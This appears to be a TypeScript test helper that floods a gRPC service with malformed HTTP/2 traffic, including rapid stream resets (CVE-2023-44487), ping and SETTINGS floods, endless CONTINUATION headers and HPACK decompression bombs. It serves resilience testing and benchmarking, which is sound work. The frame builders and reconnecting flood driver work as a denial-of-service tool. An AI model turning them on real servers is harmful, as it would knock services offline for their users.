import type net from "node:net";
import { callHeaders, hpackHeader, http2Frame, PREFACE, SETTINGS } from "../grpc/raw.js";
import { type Besieged, overWith } from "./siege.js";

// Floods of HTTP/2 frames. A test asserts that another caller is answered meanwhile, and a benchmark
// (bench/floods.ts) measures the memory they take.

/** What a client sends first: the preface and its SETTINGS. */
export const GREETING = Buffer.concat([Buffer.from(PREFACE), SETTINGS]);
/** The header block of a call of VerifyToken. */
export const CALL = callHeaders("VerifyToken");
/** The type of a HEADERS frame, and its flag END_HEADERS. */
export const [HEADERS, END_HEADERS] = [1, 4];
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** The number of a flood's connections at a time: two read what they are sent, and two do not. */
const ATTACKERS = 4;

/** Makes the frames that one connection sends in a turn. @param turn the number of turns before */
export type Flood = (turn: number) => Buffer;

const many = (count: number, frame: (n: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, n) => frame(n)));
const ACK_WANTED = many(1000, () => http2Frame(6, 0, 0, Buffer.alloc(8)));
const NEW_WINDOW = many(1000, () => http2Frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])));
const NO_DATA = many(1000, () => http2Frame(0, 0, 1, Buffer.alloc(0)));
const OTHER_ORDER = many(1000, () => http2Frame(2, 0, 1, Buffer.from([0, 0, 0, 0, 1])));
/** Opens new calls; the ids of a client's streams are odd. */
const calls = (turn: number, more: (id: number) => Buffer, headers = CALL): Buffer =>
  many(500, (n) => {
    const id = (turn * 500 + n) * 2 + 1;
    return Buffer.concat([http2Frame(HEADERS, END_HEADERS, id, headers), more(id)]);
  });
const continued = (turn: number, more: Buffer): Buffer => http2Frame(turn === 0 ? HEADERS : 9, 0, 1, more);

const CHECK = callHeaders("/grpc.health.v1.Health/Check");
const BEGUN = Buffer.from([0, 0, 0, 255, 0, ...Buffer.alloc(95)]);

/** Calls that are reset at once, which is CVE-2023-44487. */
export const RESETS: Flood = (turn) => calls(turn, (id) => http2Frame(3, 0, id, CANCEL));

/** The floods by name. */
export const FLOODS: Readonly<Record<string, Flood>> = {
  pings: () => ACK_WANTED,
  SETTINGS: () => NEW_WINDOW,
  "calls that are reset at once": RESETS,
  "calls that are left open": (turn) => calls(turn, () => Buffer.alloc(0)),
  "messages that are left unfinished": (turn) => calls(turn, (id) => http2Frame(0, 0, id, BEGUN), CHECK),
  "calls that cause their own reset": (turn) => calls(turn, (id) => http2Frame(8, 0, id, Buffer.alloc(4))),
  "endless headers": (turn) => continued(turn, turn === 0 ? CALL : hpackHeader("x", "y".repeat(8000))),
  "headers in empty frames": (turn) =>
    turn === 0 ? continued(0, CALL) : many(100, () => continued(1, Buffer.alloc(0))),
  "headers that decompress to megabytes": (turn) => {
    // One header of 4,000 bytes for the table, and a thousand references to it.
    const mentions = Buffer.alloc(1000, 0xbe);
    return http2Frame(
      HEADERS,
      END_HEADERS,
      turn * 2 + 1,
      Buffer.concat([CALL, hpackHeader("x", "y".repeat(4000), true), mentions]),
    );
  },
  "empty DATA frames": (turn) => (turn === 0 ? http2Frame(HEADERS, END_HEADERS, 1, CALL) : NO_DATA),
  "priority changes": () => OTHER_ORDER,
};

/** A flood that goes on until it is ended. */
export interface Flooding {
  /** Ends it, and waits until its connections are closed. @returns the bytes that were sent */
  end(): Promise<number>;
}

/** Floods a service's gRPC port over several connections, each replaced by another once the service has cut it. */
export function startFlood(service: Besieged, frames: Flood): Flooding {
  const over = { is: false };
  let sent = 0;
  const attackers = Array.from({ length: ATTACKERS }, async (_, index) => {
    while (!over.is) sent += await floodOnce(service, frames, index % 2 === 0, over);
  });
  return {
    async end() {
      over.is = true;
      await Promise.all(attackers);
      return sent;
    },
  };
}

/** Floods over one connection until the service cuts it or the flood is over. @returns the bytes that were sent */
export async function floodOnce(
  service: Besieged,
  frames: Flood,
  reads: boolean,
  over: { readonly is: boolean } = { is: false },
): Promise<number> {
  const socket = service.attacker("grpc", GREETING);
  const told = { goAway: false };
  // A GOAWAY has 17 bytes or more, of which the fourth is 7; any other frame is shorter here, or comes at the end.
  if (reads) socket.on("data", (data: Buffer) => (told.goAway ||= data[3] === 7));
  else socket.pause();
  for (let turn = 0; !(over.is || told.goAway || socket.closed || socket.destroyed); turn++) {
    if (!socket.write(frames(turn)) && !(await drained(socket))) break;
    await new Promise((resolve) => setImmediate(resolve));
  }
  const sent = socket.bytesWritten;
  socket.destroy();
  await overWith(socket);
  return sent;
}

/** Waits until a connection takes more; false if it takes no more within 300 ms, or is over. */
function drained(socket: net.Socket): Promise<boolean> {
  return new Promise((resolve) => {
    const done = (): void => {
      clearTimeout(timer);
      socket.off("drain", done).off("close", done);
      resolve(!socket.writableNeedDrain && !socket.destroyed);
    };
    const timer = setTimeout(done, 300);
    socket.on("drain", done).on("close", done);
  });
}
